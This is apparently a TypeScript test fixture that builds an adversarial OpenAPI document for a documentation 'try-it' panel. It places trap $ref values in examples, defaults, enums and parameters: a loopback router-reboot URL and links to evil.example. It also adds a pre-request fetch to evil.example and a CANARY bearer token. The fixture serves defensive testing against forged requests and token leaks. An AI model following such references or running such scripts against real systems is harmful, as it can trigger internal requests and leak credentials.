/** Data of an author that looks like a reference; following it would send a request to a foreign host. */
const TRAPS: Readonly<Record<string, unknown>> = {
  loopback: { $ref: 'http://127.0.0.1:4991/router/reboot?now=1' },
  outside: { name: 'Rex', owner: { $ref: 'https://evil.example/owner.json#/a' } },
  relative: [{ $ref: './owner.json' }, { $ref: '//evil.example/x' }],
  inside: { $ref: '#/components/schemas/Owner' },
};

/** Places of such data; each returns an operation whose request body is the data. */
const PLACES: Readonly<Record<string, (adversarial: unknown) => unknown>> = {
  example: (adversarial) => ({ schema: {}, example: adversarial }),
  named: (adversarial) => ({ schema: {}, examples: { first: { value: adversarial } } }),
  schema: (adversarial) => ({ schema: { type: ['object', 'array'], example: adversarial } }),
  schemas: (adversarial) => ({ schema: { examples: [adversarial] } }),
  default: (adversarial) => ({ schema: { default: adversarial } }),
  constant: (adversarial) => ({ schema: { const: adversarial } }),
  choice: (adversarial) => ({ schema: { enum: [adversarial] } }),
};

/** An operation of the adversarial document: its id in the URL, and the body that the panel sends for it. */
export interface AdversarialOperation {
  readonly id: string;
  readonly body: unknown;
  readonly content: unknown;
}

/** Every kind of data in every place. */
export const ADVERSARIAL_OPERATIONS: readonly AdversarialOperation[] = Object.entries(PLACES).flatMap(
  ([place, contentOf]) =>
    Object.entries(TRAPS).map(([name, adversarial]) => ({
      id: `${place}-${name}`,
      body: adversarial,
      content: contentOf(adversarial),
    })),
);

/** Returns a document that attacks the readers of the try-it panel. */
export function adversarialDocument(): unknown {
  return {
    openapi: '3.1.0',
    info: { title: 'Trap', version: '1.0.0' },
    servers: [{ url: '{base_url}', variables: { base_url: { default: 'https://api.trap.example' } } }],
    security: [{ token: [] }],
    paths: Object.fromEntries(
      ADVERSARIAL_OPERATIONS.map(({ id, content }) => [
        `/${id}`,
        {
          post: {
            operationId: id,
            summary: id,
            tags: ['traps'],
            'x-pre-request': "fetch('https://evil.example/')",
            parameters: [
              { name: 'q', in: 'query', schema: { type: 'object' }, example: TRAPS.outside },
              { name: 'r', in: 'query', schema: {}, examples: { a: { externalValue: 'https://evil.example/value' } } },
            ],
            requestBody: { required: true, content: { 'application/json': content } },
            responses: { 200: { description: 'OK', content: { 'application/json': content } } },
          },
        },
      ]),
    ),
    components: {
      schemas: { Owner: { type: 'object', properties: { name: { type: 'string' } } } },
      securitySchemes: {
        token: { type: 'http', scheme: 'bearer', token: 'CANARY', 'x-scalar-secret-token': 'CANARY' },
      },
    },
  };
}
